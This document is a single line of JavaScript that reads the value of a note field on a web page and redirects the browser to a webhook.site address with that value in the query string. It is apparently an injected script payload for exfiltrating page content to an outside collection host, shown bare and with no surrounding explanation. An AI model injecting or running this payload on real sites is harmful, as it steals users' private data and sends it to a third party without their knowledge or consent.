const note=document.querySelector('#n');location='https://webhook.site/abc?'+note.value
